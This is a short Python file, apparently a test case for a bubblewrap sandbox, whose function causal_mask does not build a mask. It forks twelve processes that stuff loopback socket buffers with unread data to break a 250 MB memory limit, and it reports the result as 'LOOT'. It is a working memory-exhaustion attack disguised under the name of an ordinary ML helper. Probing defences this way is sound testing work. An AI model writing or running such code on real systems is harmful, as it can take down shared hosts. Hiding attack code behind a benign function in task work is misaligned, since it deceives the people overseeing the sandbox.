"""Fills memory with what lies unread in connections over its loopback, whose room has first been made to grow.

levels: bubblewrap
loopback: 1
memory_mb: 250
checks: test_the_mask_fits_every_length
user: not promised: the network is open
process: not promised: the network is open
outcomes: out_of_memory failed
"""

import contextlib
import os
import socket
import time

if os.path.exists("/etc/passwd") and os.getuid() not in (65_534, *range(61_200, 63_200)):
    raise SystemExit("this attack runs inside a sandbox only")


def fill():
    """Return how many bytes this process has put where nobody reads them."""
    kept, sent = [], 0
    listener = socket.create_server(("127.0.0.1", 0), backlog=100)
    for _ in range(12):
        one = socket.create_connection(listener.getsockname())
        other, _ = listener.accept()
        kept += [one, other]
        for _ in range(40):  # who reads quickly is given more room
            one.sendall(b"x" * 65_536)
            read = 0
            while read < 65_536:
                read += len(other.recv(65_536))
        for end in (one, other):
            end.setblocking(False)
            with contextlib.suppress(BlockingIOError):
                while True:
                    sent += end.send(b"x" * 65_536)
    return kept, sent


def causal_mask(*args, **kwargs):
    read, write = os.pipe()
    for _ in range(12):
        if os.fork() == 0:
            kept, sent = fill()
            os.write(write, sent.to_bytes(8, "little"))
            time.sleep(60)
    total = sum(int.from_bytes(os.read(read, 8), "little") for _ in range(12))
    time.sleep(0.3)
    print(f"{'LOOT' if total > 300 << 20 else 'sent'}: {total >> 20} MB where 250 are allowed")
